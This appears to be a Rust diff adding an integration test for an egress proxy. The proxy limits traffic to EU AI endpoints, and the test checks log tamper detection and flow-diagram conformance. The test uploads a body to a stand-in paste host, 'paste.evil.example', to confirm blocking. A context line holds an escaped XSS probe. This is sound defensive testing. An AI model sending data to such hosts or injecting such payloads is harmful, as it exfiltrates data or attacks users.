@@ -262,3 +262,224 @@ fn hostile_log_content_is_escaped() {
     assert_self_contained(&html);
     assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
 }
+
+/// The contract of the end-to-end session: EU residency; Mistral's EU endpoint for chat
+/// completions, and Claude on Vertex in europe-west4 (whose `locations/<loc>` in the path can
+/// move data elsewhere, which the proxy denies per request).
+const E2E_CONTRACT: &str = r#"
+version = 1
+
+[task]
+id = "IT-EVIDENCE"
+class = "B"
+objective = "Produce a real flow log for the evidence tools"
+done = ["true"]
+rollback = "nothing to roll back"
+
+[files]
+read = ["."]
+write = ["."]
+
+[network]
+residency = "EU"
+
+[[network.allow]]
+name = "mistral-eu"
+host = "api.eu.mistral.ai"
+methods = ["POST"]
+paths = ["^/v1/chat/completions$"]
+
+[[network.allow]]
+name = "vertex-claude-eu"
+host = "europe-west4-aiplatform.googleapis.com"
+methods = ["POST"]
+paths = ["^/v1/projects/[^/]+/locations/[^/]+/publishers/anthropic/models/[^/:]+:rawPredict$"]
+"#;
+
+const E2E_DIAGRAM: &str = r#"
+[diagram]
+title = "IT-EVIDENCE data flows"
+approved_by = ["legal: test", "security: test"]
+
+[[node]]
+id = "agent"
+kind = "agent"
+
+[[node]]
+id = "proxy"
+kind = "proxy"
+
+[[node]]
+id = "mistral"
+kind = "external"
+
+[[node]]
+id = "vertex"
+kind = "external"
+
+[[edge]]
+name = "prompts to Mistral EU"
+to = "mistral"
+host = "api.eu.mistral.ai"
+methods = ["POST"]
+paths = ["/v1/chat/completions"]
+data = "source code and prompts"
+regions = ["EU"]
+
+[[edge]]
+name = "prompts to Claude on Vertex EU"
+to = "vertex"
+host = "europe-west4-aiplatform.googleapis.com"
+methods = ["POST"]
+paths = ["/v1/projects/*/locations/europe-west4/publishers/anthropic/models/*"]
+data = "source code and prompts"
+regions = ["EU"]
+"#;
+
+#[test]
+fn real_proxy_session_end_to_end() {
+    use integration_tests::clients::curl;
+    use integration_tests::gateway::{Gateway, GatewayOptions, Scratch};
+    use integration_tests::upstream::{TestCa, Upstream};
+
+    const MISTRAL: &str = "api.eu.mistral.ai";
+    const VERTEX: &str = "europe-west4-aiplatform.googleapis.com";
+    let ca = TestCa::new();
+    let up = Upstream::start(&ca, &[MISTRAL, VERTEX], &["http/1.1"]);
+    let scratch = Scratch::new("evidence-e2e");
+    let mut opts = GatewayOptions::new(E2E_CONTRACT);
+    opts.connect_to = vec![up.connect_to(MISTRAL), up.connect_to(VERTEX)];
+    opts.upstream_ca = Some(ca.pem());
+    let mut gw = Gateway::start(&scratch, opts);
+
+    let body = Some(r#"{"messages":[]}"#);
+    let mistral = format!("https://{MISTRAL}/v1/chat/completions");
+    let vertex_eu = format!("https://{VERTEX}/v1/projects/acme/locations/europe-west4/publishers/anthropic/models/claude:rawPredict");
+    let vertex_global = format!("https://{VERTEX}/v1/projects/acme/locations/global/publishers/anthropic/models/claude:rawPredict");
+    assert_eq!(
+        curl(&gw.url(), &gw.ca, "POST", &mistral, body, &[]).status,
+        200
+    );
+    assert_eq!(
+        curl(&gw.url(), &gw.ca, "POST", &vertex_eu, body, &[]).status,
+        200
+    );
+    // Denied: a method the rule does not allow, an unlisted host, and a residency denial.
+    assert_eq!(
+        curl(&gw.url(), &gw.ca, "GET", &mistral, None, &[]).status,
+        403
+    );
+    let unlisted = curl(
+        &gw.url(),
+        &gw.ca,
+        "POST",
+        "https://paste.evil.example/upload",
+        body,
+        &[],
+    );
+    assert_ne!(unlisted.status, 200);
+    assert_eq!(
+        curl(&gw.url(), &gw.ca, "POST", &vertex_global, body, &[]).status,
+        403
+    );
+    let records = gw.stop();
+    assert!(
+        records.iter().any(|r| r["decision"] == "deny"
+            && r["reason"]
+                .as_str()
+                .unwrap_or("")
+                .to_ascii_lowercase()
+                .contains("global")),
+        "no residency denial in {records:#?}"
+    );
+
+    let dir = temp_dir("e2e");
+    let log = gw.log.clone();
+    let out = sandbox(&["log", "verify", s(&log)]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+
+    // Editing one byte of a record names its line.
+    let original = std::fs::read(&log).unwrap();
+    let line_starts: Vec<usize> = std::iter::once(0)
+        .chain(
+            original
+                .iter()
+                .enumerate()
+                .filter(|(_, b)| **b == b'\n')
+                .map(|(i, _)| i + 1),
+        )
+        .collect();
+    let tampered = dir.join("tampered.jsonl");
+    for line in [2usize, line_starts.len() / 2, line_starts.len() - 1] {
+        let mut bytes = original.clone();
+        let at = line_starts[line - 1] + 20;
+        bytes[at] = if bytes[at] == b'7' { b'8' } else { b'7' };
+        std::fs::write(&tampered, &bytes).unwrap();
+        let out = sandbox(&["log", "verify", s(&tampered)]);
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        assert_eq!(out.status.code(), Some(1), "line {line}: {text}");
+        assert!(
+            text.contains(&format!(":{line}: NOT INTACT")),
+            "line {line}: {text}"
+        );
+    }
+
+    let diagram = dir.join("approved.toml");
+    std::fs::write(&diagram, E2E_DIAGRAM).unwrap();
+    let out = sandbox(&["verify", "--approved", s(&diagram), s(&log)]);
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    assert!(
+        text.contains("VERDICT: CONFORMS: 2 allowed flows"),
+        "{text}"
+    );
+    assert!(text.contains("3 blocked attempts"), "{text}");
+
+    // Without the Vertex edge, verify names the missing edge.
+    let start = E2E_DIAGRAM
+        .find("[[edge]]\nname = \"prompts to Claude")
+        .unwrap();
+    let narrowed = dir.join("narrowed.toml");
+    std::fs::write(&narrowed, &E2E_DIAGRAM[..start]).unwrap();
+    let out = sandbox(&["verify", "--approved", s(&narrowed), s(&log)]);
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    assert!(
+        text.contains(&format!("MISSING EDGE: proxy -> {VERTEX}:443 POST /v1/projects/acme/locations/europe-west4/publishers/anthropic/models/claude:rawPredict")),
+        "{text}"
+    );
+
+    let html_path = dir.join("report.html");
+    let out = sandbox(&[
+        "report",
+        s(&log),
+        "--approved",
+        s(&diagram),
+        "-o",
+        s(&html_path),
+    ]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let html = std::fs::read_to_string(&html_path).unwrap();
+    assert_self_contained(&html);
+    assert!(html.contains("Verdict: CONFORMS"));
+    assert!(html.contains("sandbox proxy"), "the session's command");
+    let (_, _, rgba) = screenshot(&dir, &html_path);
+    assert!(
+        count(&rgba, [0xed, 0xe7, 0xf6]) > 5000,
+        "proxy box not rendered"
+    );
+    assert!(
+        count(&rgba, [0xe8, 0xf5, 0xe9]) > 5000,
+        "allowed destinations not rendered"
+    );
+}
